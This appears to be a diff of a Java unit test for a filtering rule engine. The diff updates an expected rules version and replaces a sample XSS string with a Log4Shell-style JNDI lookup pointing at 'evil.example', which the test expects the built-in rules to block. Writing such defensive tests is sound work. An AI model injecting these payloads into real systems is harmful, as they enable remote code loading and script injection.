@@ -43,7 +43,7 @@ class RuleLocationTest {
         Path file = dir.resolve("rules.json");
         Files.writeString(file, pack("f1", "apple"));
         RuleEngine engine = engine(file.toString());
-        assertThat(engine.rules().version()).isEqualTo("builtin-2026.11.25+f1");
+        assertThat(engine.rules().version()).isEqualTo("builtin-2026.12.03+f1");
         assertThat(blocks(engine, "apple")).isTrue();
         assertThat(engine.refreshLocation()).as("unchanged: not applied again").isFalse();
 
@@ -52,7 +52,7 @@ class RuleLocationTest {
         assertThat(engine.refreshLocation()).isTrue();
         assertThat(blocks(engine, "pear")).isTrue();
         assertThat(blocks(engine, "apple")).isFalse();
-        assertThat(blocks(engine, "<script>alert(1)</script>")).as("the built-in rules still apply").isTrue();
+        assertThat(blocks(engine, "${jndi:ldap://evil.example/a}")).as("the built-in rules still apply").isTrue();
 
         // A broken edit leaves the rules in force and says why.
         Files.writeString(file, pack("f3", "plum").replace("\"equals\"", "\"equal\""));
@@ -77,7 +77,7 @@ class RuleLocationTest {
         RuleEngine engine = engine(broken.toUri().toString());
         assertThat(engine.rules().origin()).isEqualTo("built-in");
         assertThat(engine.lastError()).contains("is not a JSON object");
-        assertThat(blocks(engine, "<script>alert(1)</script>")).isTrue();
+        assertThat(blocks(engine, "${jndi:ldap://evil.example/a}")).isTrue();
     }
 
     @Test
